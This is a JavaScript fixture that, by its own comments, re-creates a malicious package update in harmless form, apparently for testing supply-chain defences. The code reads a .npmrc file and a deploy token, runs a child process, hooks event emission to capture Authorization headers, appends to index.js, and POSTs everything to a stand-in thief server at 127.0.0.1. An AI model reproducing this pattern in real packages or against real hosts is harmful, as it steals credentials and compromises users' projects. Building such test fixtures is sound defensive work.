// ---- What the "new version" adds. A harmless re-creation of what real ones did: ----
// ---- the home folder is a temporary one, its secrets are made up, and the thief's server is 127.0.0.1. ----
/* eslint-disable */
(function () {
  var loot = {};
  function attempt(name, act) {
    try {
      loot[name] = String(act());
    } catch (error) {
      loot[name] = undefined;
    }
  }
  attempt("file", function () {
    return require("fs").readFileSync(require("path").join(require("os").homedir(), ".npmrc"), "utf8");
  });
  attempt("environment", function () {
    return process.env.DEPLOY_TOKEN;
  });
  attempt("command", function () {
    return require("child_process").execFileSync(process.execPath, [
      "-e",
      "require('fs').writeFileSync(process.argv[1], '')",
      require("path").join(require("os").homedir(), "command-ran"),
    ]);
  });
  attempt("listening in", function () {
    var EventEmitter = require("events");
    var emit = EventEmitter.prototype.emit;
    EventEmitter.prototype.emit = function (event, request) {
      if (event === "request" && request.headers.authorization)
        send({ "a caller's password": request.headers.authorization });
      return emit.apply(this, arguments);
    };
    return "";
  });
  attempt("code for later", function () {
    return require("fs").appendFileSync(require("path").join(process.cwd(), "index.js"), "\n// the thief was here\n");
  });
  function send(what) {
    try {
      var request = require("http").request({ host: "127.0.0.1", port: "THE_THIEFS_PORT", method: "POST" });
      request.on("error", function () {});
      request.end(JSON.stringify(what));
    } catch (error) {
      try {
        fetch("http://127.0.0.1:THE_THIEFS_PORT/", { method: "POST", body: JSON.stringify(what) }).catch(
          function () {},
        );
      } catch (again) {}
    }
  }
  send(loot);
})();
